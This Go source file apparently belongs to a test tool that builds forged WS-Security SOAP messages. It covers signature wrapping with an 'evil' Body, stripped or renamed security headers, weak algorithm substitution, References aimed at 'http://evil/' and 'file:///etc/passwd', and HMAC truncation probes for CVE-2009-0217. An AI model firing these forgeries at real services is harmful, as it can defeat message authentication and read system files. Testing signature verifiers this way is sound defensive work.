package attacks

import (
	"encoding/base64"
	"fmt"
	"regexp"
	"strings"
)

// exclude removes, empties and renames parts of the protection.
func (f *forge) exclude() {
	for _, e := range f.header.all() {
		if e == f.header || e.parent.space == nsSOAP11 && e.parent.local == "Fault" {
			continue
		}
		name := "{" + e.space + "}" + e.local
		forged := replace(f.body, idAttribute.ReplaceAllString(f.src[f.body.start:f.body.open], "")+evil+`</`+
			f.tagName(f.body)+`>`)
		f.add("without "+name, f.edited(replace(e, "")))
		f.add("without "+name+", forged Body", f.edited(replace(e, ""), forged))
		if !e.isEmptyTag() {
			f.add("emptied "+name, f.edited(edit{e.open, e.close, ""}))
			f.add("emptied "+name+", forged Body", f.edited(edit{e.open, e.close, ""}, forged))
		}
		f.add("renamed "+name, f.renamed(e, "Other"))
		f.add("twice "+name, f.edited(insert(e.end, f.source(e))))
	}
	f.excludeSecurity()
}

func (f *forge) excludeSecurity() {
	tag := f.src[f.security.start:f.security.open]
	forged := replace(f.body, idAttribute.ReplaceAllString(f.src[f.body.start:f.body.open], "")+evil+`</`+
		f.tagName(f.body)+`>`)
	f.add("forged Body", f.edited(forged))
	f.add("no Header", f.edited(replace(f.header, "")))
	f.add("no Header, forged Body", f.edited(replace(f.header, ""), forged))
	for _, actor := range []string{"actor", "role"} {
		for _, of := range []string{"urn:other", "", f.root.space + "/role/none",
			"http://schemas.xmlsoap.org/soap/actor/next",
			nsSOAP12 + "/role/next", nsSOAP12 + "/role/ultimateReceiver"} {
			added := ` q:` + actor + `="` + of + `" xmlns:q="` + f.root.space + `"`
			f.add("Security with "+actor+" "+of, f.edited(insert(f.security.open-1, added)))
			f.add("Security with "+actor+" "+of+", forged Body", f.edited(insert(f.security.open-1, added), forged))
		}
	}
	for _, space := range []string{"urn:evil", nsWSU, "http://schemas.xmlsoap.org/ws/2002/04/secext",
		"http://docs.oasis-open.org/wss/oasis-wss-wssecurity-secext-1.1.xsd"} {
		renamed := strings.Replace(tag, nsWSSE, space, 1)
		f.add("Security of "+space, f.edited(edit{f.security.start, f.security.open, renamed}))
		f.add("Security of "+space+", forged Body", f.edited(edit{f.security.start, f.security.open, renamed}, forged))
	}
}

// renamed returns the message with another local name for an element.
func (f *forge) renamed(e *element, local string) string {
	name := f.tagName(e)
	other := name[:strings.Index(name, ":")+1] + local
	edits := []edit{{e.start + 1, e.start + 1 + len(name), other}}
	if !e.isEmptyTag() {
		edits = append(edits, edit{e.close + 2, e.close + 2 + len(name), other})
	}
	return f.edited(edits...)
}

// algorithms are those that something may be substituted by.
var algorithms = []string{
	"", "urn:none", nsDS + "sha1", nsDS + "hmac-sha1", nsDS + "rsa-sha1", nsDS + "dsa-sha1", nsDS + "base64",
	nsDS + "enveloped-signature", "http://www.w3.org/2001/04/xmldsig-more#md5",
	"http://www.w3.org/2001/04/xmldsig-more#hmac-md5", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
	"http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", "http://www.w3.org/2001/04/xmldsig-more#hmac-ripemd160",
	"http://www.w3.org/2001/04/xmldsig-more#hmac-sha224", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha512",
	nsXENC + "sha256", nsXENC + "sha512", nsXENC + "tripledes-cbc", nsXENC + "aes128-cbc", nsXENC + "aes256-cbc",
	"http://www.w3.org/2009/xmlenc11#aes128-gcm", nsXENC + "rsa-1_5", nsXENC + "rsa-oaep-mgf1p", nsXENC + "kw-aes128",
	nsXENC + "arcfour", "http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
	"http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments", "http://www.w3.org/2006/12/xml-c14n11",
	"http://www.w3.org/2001/10/xml-exc-c14n#", "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
	"http://www.w3.org/TR/1999/REC-xpath-19991116", "http://www.w3.org/TR/1999/REC-xslt-19991116",
	"http://www.w3.org/2002/06/xmldsig-filter2", "http://www.w3.org/2002/07/decrypt#XML",
	"http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#STR-Transform",
	"http://docs.oasis-open.org/wss/oasis-wss-SwAProfile-1.1#Attachment-Content-Signature-Transform",
}

var algorithm = regexp.MustCompile(`Algorithm="([^"]*)"`)

// substitute puts each algorithm in the place of each, and adds transforms.
func (f *forge) substitute() {
	for _, at := range algorithm.FindAllStringSubmatchIndex(f.src, -1) {
		for _, other := range algorithms {
			f.add(fmt.Sprintf("%s at %d is %s", f.src[at[2]:at[3]], at[0], other), f.edited(edit{at[2], at[3], other}))
		}
	}
	for _, e := range f.security.all() {
		if e.space != nsDS || e.local != "Transforms" {
			continue
		}
		for _, other := range algorithms {
			transform := `<ds:Transform xmlns:ds="` + nsDS + `" Algorithm="` + other + `"/>`
			f.add(fmt.Sprintf("transform %s before those at %d", other, e.start), f.edited(afterStart(e, transform)))
			f.add(fmt.Sprintf("transform %s after those at %d", other, e.start), f.edited(beforeEnd(e, transform)))
		}
		for _, xpath := range []string{"false()", "not(ancestor-or-self::*)", "self::text()"} {
			f.add(xpath+" at "+fmt.Sprint(e.start), f.edited(edit{e.open, e.close, `<ds:Transform xmlns:ds="` + nsDS +
				`" Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>` + xpath + `</ds:XPath></ds:Transform>`}))
		}
	}
	for _, e := range f.security.all() {
		if e.space == nsDS && e.local == "Reference" {
			f.referTo(e)
		}
	}
}

var uriAttribute = regexp.MustCompile(`URI="[^"]*"`)

// referTo lets a Reference name something else.
func (f *forge) referTo(e *element) {
	tag := f.src[e.start:e.open]
	targets := []string{"", "#", "#xpointer(/)", "#xpointer(id('x'))", "http://evil/", "file:///etc/passwd", "cid:evil",
		"#" + f.root.id(), "#%2e"}
	for _, id := range f.ids() {
		targets = append(targets, "#"+id, id, "#"+id+" ", "# "+id, "#xpointer(id('"+id+"'))")
	}
	for _, uri := range targets {
		f.add(fmt.Sprintf("Reference at %d names %q", e.start, uri), f.edited(edit{e.start, e.open,
			uriAttribute.ReplaceAllLiteralString(tag, `URI="`+uri+`"`)}))
	}
	f.add(fmt.Sprintf("Reference at %d without URI", e.start), f.edited(edit{e.start, e.open,
		uriAttribute.ReplaceAllString(tag, "")}))
}

// truncate asks for a part of the HMAC (CVE-2009-0217), and sends a part.
func (f *forge) truncate() {
	for _, e := range f.security.all() {
		switch {
		case e.space == nsDS && e.local == "SignatureMethod":
			for _, bits := range []string{"0", "1", "7", "8", "16", "32", "40", "64", "79", "80", "96", "128", "152", "159",
				"160", "161", "256", "-1", "-8", "4294967296", "4294967304", "18446744073709551624", "8.0", "0x8", " 8 ", "",
				"١"} {
				f.truncated(e, bits)
			}
		case e.space == nsDS && (e.local == "SignatureValue" || e.local == "DigestValue"):
			value, _ := base64.StdEncoding.DecodeString(e.inner(f.Octets))
			for n := range len(value) {
				f.add(fmt.Sprintf("%d octets of %s at %d", n, e.local, e.start),
					f.edited(edit{e.open, e.close, base64.StdEncoding.EncodeToString(value[:n])}))
			}
			f.add(e.local+" with an octet more", f.edited(edit{e.open, e.close,
				base64.StdEncoding.EncodeToString(append(value, 0))}))
		}
	}
}

// truncated sends the HMACOutputLength, with values of that length and forged.
func (f *forge) truncated(method *element, bits string) {
	length := `<ds:HMACOutputLength xmlns:ds="` + nsDS + `">` + bits + `</ds:HMACOutputLength>`
	put := insert(method.close, length)
	if method.isEmptyTag() {
		put = replace(method, strings.TrimSuffix(f.source(method), "/>")+`>`+length+`</`+f.tagName(method)+`>`)
	}
	f.add("HMACOutputLength "+bits, f.edited(put))
	value := method.parent.parent.child(nsDS, "SignatureValue")
	if value == nil {
		return
	}
	for _, forged := range []string{"", "AA==", "AAAAAAAAAAAAAA==", "AAAAAAAAAAAAAAAAAAAAAAAAAAA="} {
		f.add("HMACOutputLength "+bits+", value "+forged, f.edited(put, edit{value.open, value.close, forged}))
	}
}
